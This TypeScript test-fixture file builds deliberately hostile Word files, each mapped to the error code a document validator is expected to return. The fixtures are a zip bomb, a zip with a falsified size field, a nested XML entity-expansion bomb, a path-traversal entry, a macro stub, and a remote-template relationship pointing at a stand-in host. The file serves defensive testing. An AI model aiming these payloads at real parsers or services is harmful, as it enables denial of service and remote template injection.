/** Word files that mean harm, each with the code of what must be found. */

import PizZip from "pizzip";
import { wordFile } from "./small-campaign.ts";
import { a4Section, paragraph, run } from "./word-builder.ts";

export interface HostileWordFile {
  readonly bytes: Uint8Array;
  readonly code: string;
}

/** By a name for the folder of its template. */
export function hostileWordFiles(): Readonly<Record<string, HostileWordFile>> {
  return {
    "bom-nen": {
      bytes: packed({ "word/media/bom.bin": new Uint8Array(60 * 1024 * 1024) }),
      code: "word/too-large",
    },
    "bom-nen-noi-doi": { bytes: lyingZip(), code: "word/not-a-word-file" },
    "bom-xml": { bytes: packed({ "word/document.xml": entityBomb() }), code: "word/damaged-entry" },
    "xml-sau": {
      bytes: packed({ "word/document.xml": document("<w:p>".repeat(50_000)) }),
      code: "word/damaged-entry",
    },
    "xml-dai": {
      bytes: packed({ "word/document.xml": document(paragraph(run("a")).repeat(60_000)) }),
      code: "word/too-large",
    },
    "nhieu-phan": { bytes: packed(manyEntries()), code: "word/too-large" },
    "nhieu-the": { bytes: wordFile(["{{a}}".repeat(50_000)]), code: "word/too-large" },
    "nhieu-ngoac": { bytes: wordFile(["{{".repeat(100_000)]), code: "word/too-large" },
    "the-dai": { bytes: wordFile([`{{${"a".repeat(100_000)}}}`]), code: "expression/too-long" },
    "khoi-long-nhau": { bytes: wordFile([nestedBlocks(500)]), code: "word/too-large" },
    "tu-xa": {
      bytes: packed({ "word/_rels/settings.xml.rels": outsideTemplate }),
      code: "word/active-content",
    },
    "co-macro": { bytes: packed({ "word/vbaProject.bin": "x" }), code: "word/active-content" },
    "ra-ngoai": { bytes: packed({ "word/../../../thoat.xml": "x" }), code: "word/not-a-word-file" },
    "khong-nen": { bytes: new TextEncoder().encode("Kính gửi"), code: "word/not-a-word-file" },
    "mat-khau": {
      bytes: new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
      code: "word/locked-file",
    },
  };
}

/** A Word file with further entries, or with some in the place of its own. */
function packed(entries: Readonly<Record<string, string | Uint8Array>>): Uint8Array {
  const zip = new PizZip(wordFile(["Mẫu"]));
  for (const [name, content] of Object.entries(entries)) zip.file(name, content);
  return zip.generate({ type: "uint8array", compression: "DEFLATE" });
}

function document(body: string): string {
  return `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>${body}${a4Section()}</w:body></w:document>`;
}

/** Its directory says a hundred bytes for what becomes sixty million (APPNOTE 4.3.12: the size stands at byte 24). */
function lyingZip(): Uint8Array {
  const bytes = Buffer.from(packed({ "word/media/bom.bin": new Uint8Array(60 * 1024 * 1024) }));
  const name = bytes.lastIndexOf("word/media/bom.bin");
  bytes.writeUInt32LE(100, name - 46 + 24);
  return bytes;
}

/** Ten times ten times ten … of one text. */
function entityBomb(): string {
  const levels = Array.from(
    { length: 20 },
    (_, level) => `<!ENTITY a${level} "${(level === 0 ? "aaaaaaaaaa" : `&a${level - 1};`).repeat(10)}">`,
  );
  return `<!DOCTYPE w:document [${levels.join("")}]>${document("<w:p><w:r><w:t>&a19;</w:t></w:r></w:p>")}`;
}

function manyEntries(): Record<string, string> {
  return Object.fromEntries(Array.from({ length: 1001 }, (_, index) => [`word/${index}.bin`, ""]));
}

function nestedBlocks(depth: number): string {
  return `${"{{#if unit.name}}".repeat(depth)}a${"{{/if}}".repeat(depth)}`;
}

const outsideTemplate =
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://nguoi-la.example/mau.dotm" TargetMode="External"/></Relationships>';
